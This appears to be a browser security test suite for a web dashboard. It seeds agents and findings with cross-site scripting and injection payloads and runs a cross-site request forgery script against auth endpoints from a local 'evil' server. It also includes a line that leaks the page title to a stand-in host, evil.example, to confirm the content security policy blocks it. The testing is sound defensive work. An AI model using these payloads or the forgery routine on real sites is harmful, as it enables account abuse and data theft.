/** The page as an attacker's target: hostile data, other sites' pages, and what the browser is told to refuse. */
import { mkdirSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import { type TestServer, type TestServerOptions, testServer } from '@opmas/server/testing';
import { waitFor } from '@opmas/testkit';
import { type Browser, type BrowserContext, chromium, type Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { limits } from './limits.ts';

const CHROMIUM = process.env['OPMAS_TEST_CHROMIUM'] || '/usr/bin/chromium';

/** Markup, scripts in attributes and addresses, style and template tricks, text that reorders or ends a line. */
const PAYLOADS = [
  '<img src=x onerror="window.hurt=1">',
  '<script>window.hurt=1</script>',
  '"><svg/onload=window.hurt=1>',
  "'-alert(1)-'",
  'javascript:alert(1)',
  '<iframe srcdoc="<script>parent.hurt=1</script>">',
  '<a href="javascript:window.hurt=1">click</a>',
  '<style>*{background:url(/hurt)}</style>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '{{constructor.constructor("window.hurt=1")()}}',
  '${window.hurt=1}',
  '<math><mtext></p><img src onerror=window.hurt=1>',
  '\u202etxt.exe\u0007\u001b[2J\u001b]0;x\u0007',
  '=HYPERLINK("https://evil.example","x")',
  '\u2028window.hurt=1//',
  '</script><script>window.hurt=1</script>',
  '&lt;img src=x onerror=window.hurt=1&gt;',
];

/** Directives that the server has logged reports about. */
const refusals = new Set<unknown>();
const logger: NonNullable<TestServerOptions['logger']> = {
  debug: () => undefined,
  info: () => undefined,
  warn: (fields) => {
    if ('directive' in fields) refusals.add(fields.directive);
  },
  error: () => undefined,
  child: () => logger,
};

let server: TestServer;
let browser: Browser;
let context: BrowserContext;
let page: Page;
/** What must not happen: errors, dialogs, and what the content security policy refuses. */
const complaints: string[] = [];

beforeAll(async () => {
  server = await testServer({ logger });
  browser = await chromium.launch({
    executablePath: CHROMIUM,
    args: ['--no-sandbox', '--disable-dev-shm-usage', '--disable-gpu', '--short-reporting-delay'],
  });
  context = await browser.newContext({
    viewport: { width: 1280, height: 2000 },
    reducedMotion: 'reduce',
  });
  context.setDefaultTimeout(limits.waitMs);
  page = await context.newPage();
  watch(page);
  await seed();
}, limits.startMs);

afterAll(async () => {
  await browser?.close();
  await server?.stop();
}, limits.stopMs);

function watch(watched: Page): void {
  watched.on('pageerror', (error) => complaints.push(`error: ${error.message}`));
  watched.on('console', (message) => {
    if (message.type() === 'error') complaints.push(`console: ${message.text()}`);
  });
  watched.on('dialog', (dialog) => {
    complaints.push(`dialog: ${dialog.message()}`);
    void dialog.dismiss();
  });
}

async function seed(): Promise<void> {
  const at = new Date();
  const agent = {
    type: 'test',
    version: '1.0.0',
    status: 'running',
    conditions: '[]',
    default_config: '{}',
    created_at: at,
    updated_at: at,
  };
  await server.database.transaction(async (tx) => {
    for (const [n, payload] of PAYLOADS.entries()) {
      const id = `test-${n}`;
      await tx
        .insertInto('agents')
        .values({
          ...agent,
          id,
          name: `${n} ${payload}`,
          description: payload,
          reason: payload,
          tags: [payload],
        } as never)
        .execute();
      const finding = {
        finding_id: `f-${n}`,
        agent_id: id,
        agent_name: `${n} ${payload}`,
        topic: 'findings.test',
        type: payload.slice(0, 100),
        severity: 'critical',
        timestamp: at,
        recorded_at: at,
        description: `${n} ${payload}`,
        details: JSON.stringify({
          event_id: payload,
          matched_pattern: payload,
          event: { message: payload },
        }),
      };
      await tx
        .insertInto('findings')
        .values(finding as never)
        .execute();
    }
  });
}

async function screenshot(name: string): Promise<void> {
  const folder = process.env['OPMAS_TEST_SCREENSHOTS'] || join(server.dataDir, 'screenshots');
  mkdirSync(folder, { recursive: true });
  await page.screenshot({ path: join(folder, `${name}.png`) });
}

const hurt = () => page.evaluate('globalThis.hurt');

describe('X6 hostile text stays text on the page', () => {
  test('in the list of agents', async () => {
    await page.goto(server.app.setupUrl ?? '');
    await page.getByLabel('Password', { exact: true }).fill('a sentence is good enough');
    await page.getByRole('button', { name: 'Create the user and sign in' }).click();
    await page.getByRole('heading', { name: 'Fleet' }).waitFor();
    const table = page.getByRole('table', { name: 'Agents, worst first' });
    await table
      .getByText(PAYLOADS[0] ?? '')
      .first()
      .waitFor();
    await screenshot('edge-fleet');
    expect(await hurt()).toBeUndefined();
    expect(complaints).toEqual([]);
  });

  test('in the list of findings and in the details of each', async () => {
    await page.getByRole('link', { name: 'Findings', exact: true }).first().click();
    await page.getByRole('heading', { name: 'Findings' }).first().waitFor();
    for (const n of PAYLOADS.keys()) {
      // What stands behind the number may be shown in another way: hidden characters are made visible.
      const row = page
        .getByRole('row')
        .filter({ has: page.getByText(new RegExp(`^${n} `)) })
        .first();
      await row.scrollIntoViewIfNeeded();
      await row.getByRole('button').first().click();
      const details = page.getByRole('dialog');
      await details.waitFor();
      if (n === 0) await screenshot('edge-details');
      await page.keyboard.press('Escape');
      await details.waitFor({ state: 'hidden' });
    }
    await screenshot('edge-findings');
    expect(await hurt()).toBeUndefined();
    expect(complaints).toEqual([]);
  });
});

/** What a page of another site tries with the browser of somebody who is signed in. */
const ATTACKS = `async (target) => {
  const outcome = {};
  const attempt = async (name, work) => {
    try { outcome[name] = String(await work()); } catch (error) { outcome[name] = 'failed'; }
  };
  const post = (path, more) => fetch(target + path, { method: 'POST', credentials: 'include', ...more });
  await attempt('refresh', async () => (await post('/api/v1/auth/refresh', { mode: 'no-cors' })).type);
  await attempt('logout', async () => (await post('/api/v1/auth/logout', { mode: 'no-cors' })).type);
  await attempt('readable', async () => (await post('/api/v1/auth/refresh', {})).status);
  await attempt('json', async () => (await post('/api/v1/auth/logout', {
    headers: { 'content-type': 'application/json' }, body: '{}',
  })).status);
  await attempt('read', async () => (await fetch(target + '/api/v1/auth/me', { credentials: 'include' })).status);
  await attempt('beacon', async () => navigator.sendBeacon(target + '/api/v1/auth/logout'));
  const load = (tag, path) => new Promise((resolve) => {
    const element = document.createElement(tag);
    element.onload = () => resolve('loaded');
    element.onerror = () => resolve('failed');
    element.src = target + path;
    document.body.append(element);
  });
  await attempt('image', () => load('img', '/favicon.svg'));
  await attempt('script', () => load('script', '/api/docs/assets/swagger-ui-bundle.js'));
  await attempt('socket', () => new Promise((resolve) => {
    const socket = new WebSocket(target.replace('http', 'ws') + '/api/v1/agents/ws');
    socket.onopen = () => resolve('open');
    socket.onerror = () => resolve('failed');
  }));
  const frame = document.createElement('iframe');
  frame.name = 'sink';
  document.body.append(frame);
  for (const enctype of ['text/plain', 'application/x-www-form-urlencoded', 'multipart/form-data']) {
    const form = document.createElement('form');
    Object.assign(form, { method: 'POST', action: target + '/api/v1/auth/logout', enctype, target: 'sink' });
    document.body.append(form);
    const done = new Promise((resolve) => { frame.onload = resolve; });
    form.submit();
    await done;
  }
  frame.src = target + '/';
  await new Promise((resolve) => { frame.onload = resolve; });
  return outcome;
}`;

describe('X7 a page of another site in the same browser', () => {
  let evil: Server;
  const seen: string[] = [];

  beforeAll(async () => {
    evil = createServer((_request, response) => {
      response.setHeader('content-type', 'text/html');
      response.end('<!doctype html><title>evil</title><body>');
    });
    await new Promise<void>((resolve) => {
      evil.listen(0, '0.0.0.0', resolve);
    });
  });
  afterAll(() => {
    evil.closeAllConnections();
    evil.close();
  });

  test('the session is in a cookie that no script reads', async () => {
    const cookie = (await context.cookies(server.url)).find(({ name }) =>
      name.startsWith('__Host-'),
    );
    expect(cookie).toMatchObject({
      httpOnly: true,
      secure: true,
      sameSite: 'Strict',
      path: '/',
      domain: '127.0.0.1',
    });
    const readable = (await page.evaluate(
      'JSON.stringify([document.cookie, { ...localStorage }, { ...sessionStorage }])',
    )) as string;
    expect(readable).not.toContain(cookie?.value ?? '');
    expect(readable).not.toMatch(/eyJ|refresh_token|access_token/);
  });

  test.each([
    ['another site', 'localhost'],
    ['another port of the same site', '127.0.0.1'],
  ])('%s changes nothing, reads nothing, frames nothing', async (_, host) => {
    seen.length = 0;
    const attacker = await context.newPage();
    attacker.on('response', (answer) => {
      if (answer.url().startsWith(server.url)) {
        seen.push(`${answer.request().method()} ${answer.status()}`);
      }
    });
    await attacker.goto(`http://${host}:${(evil.address() as AddressInfo).port}/`);
    const outcome = await attacker.evaluate(`(${ATTACKS})(${JSON.stringify(server.url)})`);
    expect(outcome).toEqual({
      refresh: 'failed',
      logout: 'failed',
      readable: 'failed',
      json: 'failed',
      read: 'failed',
      beacon: 'true',
      image: 'failed',
      script: 'failed',
      socket: 'failed',
    });
    // The last thing the frame was given is the page itself, and the browser shows an error instead.
    const framed = () => attacker.frames().at(-1)?.url() ?? '';
    await waitFor(() => framed().startsWith('chrome-error:'), {
      timeoutMs: limits.waitMs,
      what: 'an error in the frame',
    });
    // The forms; the browser tells nobody of answers it keeps from the page.
    const posts = await waitFor(
      () => {
        const answers = seen.filter((line) => line.startsWith('POST'));
        return answers.length > 0 ? answers : undefined;
      },
      { timeoutMs: limits.waitMs },
    );
    expect(new Set(posts)).toEqual(new Set(['POST 403']));

    const opened = attacker.evaluate(
      `new Promise((resolve) => {
        const other = window.open(${JSON.stringify(server.url)});
        const look = () => (other === null || other.closed ? resolve('cut off') : setTimeout(look, 20));
        look();
      })`,
    );
    expect(await opened).toBe('cut off');
    await attacker.close();

    await page.bringToFront();
    await page.goto(server.url);
    await page.getByRole('table', { name: 'Agents, worst first' }).waitFor();
    expect(complaints).toEqual([]);
  });
});

describe('X6 what the browser refuses is reported', () => {
  test('an injected script, handler, style and markup do nothing, and the server hears of it', async () => {
    const injected = page.evaluate(`(() => {
      const refused = [];
      const attempt = (name, work) => { try { work(); } catch { refused.push(name); } };
      const script = document.createElement('script');
      attempt('script text', () => { script.textContent = 'window.hurt = 1'; document.body.append(script); });
      attempt('script address', () => { const other = document.createElement('script'); other.src = 'https://evil.example/x.js'; document.body.append(other); });
      attempt('markup', () => { document.body.innerHTML += '<img src=x onerror="window.hurt=1">'; });
      attempt('timer', () => { setTimeout('window.hurt = 1', 0); });
      const image = new Image();
      image.src = 'https://evil.example/leak?' + document.title;
      fetch('https://evil.example/leak').catch(() => refused.push('fetch'));
      const box = document.createElement('div');
      box.setAttribute('style', 'position: fixed');
      document.body.append(box);
      return new Promise((resolve) => setTimeout(() => resolve([refused.sort(), box.style.position]), 300));
    })()`);
    const [refused, position] = (await injected) as [string[], string];
    expect(refused).toEqual(['fetch', 'markup', 'script address', 'script text', 'timer']);
    expect(position).toBe('');
    expect(await hurt()).toBeUndefined();
    const directives = await waitFor(() => (refusals.size >= 4 ? [...refusals] : undefined), {
      timeoutMs: limits.waitMs,
    });
    expect(directives).toEqual(
      expect.arrayContaining([
        'connect-src',
        'img-src',
        'require-trusted-types-for',
        'style-src-attr',
      ]),
    );
  });
});
